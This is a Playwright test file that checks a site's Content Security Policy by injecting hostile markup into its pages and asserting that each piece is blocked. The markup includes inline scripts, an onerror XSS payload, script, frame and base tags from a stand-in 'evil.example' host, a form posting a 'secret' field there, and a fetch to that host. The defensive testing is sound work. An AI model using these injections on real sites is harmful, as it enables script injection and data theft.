import { expect, test } from '@playwright/test'
import { collectPolicyViolations } from './policy-violations.ts'

const EVIL = 'https://evil.example'

const INJECTED = `
  <script>window.owned = 'inline script'</script>
  <img id="handler" src="/nothing.png" onerror="window.owned = 'handler'">
  <script src="${EVIL}/foreign.js"></script>
  <iframe src="${EVIL}/frame.html"></iframe>
  <link rel="stylesheet" href="${EVIL}/foreign.css">
  <object data="${EVIL}/object"></object>
  <base href="${EVIL}/">
  <form id="stolen" action="${EVIL}/form" method="post"><input name="secret" value="1"></form>`

// Each page has a policy of its own, by its inline scripts and styles; that of the 404 page is sent by the server.
for (const route of ['/careers/', '/nothing-here/']) {
  test(`${route}: injected scripts, handlers, frames and form targets are blocked`, async ({ page }) => {
    const found = await collectPolicyViolations(page)
    const reached: string[] = []
    await page.route(`${EVIL}/**`, async (request) => {
      reached.push(request.request().url())
      await request.fulfill({ status: 200, contentType: 'text/javascript', body: "window.owned = 'foreign script'" })
    })
    await page.route(`**${route}`, async (request) => {
      const answer = await request.fetch()
      const body = (await answer.text()).replace('</body>', `${INJECTED}</body>`)
      await request.fulfill({ response: answer, body })
    })
    await page.goto(route)
    await expect(page.locator('#stolen')).toBeAttached()
    const blocked = (directive: string, uri: string) =>
      expect.poll(() => found.filter((text) => text.startsWith(`${directive} ${uri}`))).not.toEqual([])
    await blocked('script-src-elem', 'inline')
    await blocked('script-src-attr', 'inline')
    await blocked('script-src-elem', `${EVIL}/foreign.js`)
    for (const directive of ['frame-src', 'style-src-elem', 'base-uri']) await blocked(directive, EVIL)
    await page.locator('#stolen').evaluate((form) => form instanceof HTMLFormElement && form.submit())
    await blocked('form-action', `${EVIL}/form`)

    const attempts = await page.evaluate((evil) => {
      const script = () => document.createElement('script')
      return [
        () => Object.assign(document.body, { innerHTML: '<img src=x onerror=alert(1)>' }),
        () => Object.assign(script(), { src: `${evil}/foreign.js` }),
        () => Object.assign(script(), { textContent: 'window.owned = 1' }),
        () => window.trustedTypes?.createPolicy('mine', {}),
      ].map((attempt) => {
        try {
          attempt()
          return 'passed'
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error)
        }
      })
    }, EVIL)
    expect(attempts).toEqual(Array(4).fill('refused'))
    await expect(page.evaluate((evil) => fetch(`${evil}/told`), EVIL)).rejects.toThrow('Failed to fetch')
    expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined()
    expect(reached).toEqual([])
  })
}

test('other sites cannot embed a page in a frame', async ({ page, baseURL }) => {
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: `<iframe src="${baseURL}/contact/"></iframe>` }),
  )
  await page.goto(`${EVIL}/`)
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
})
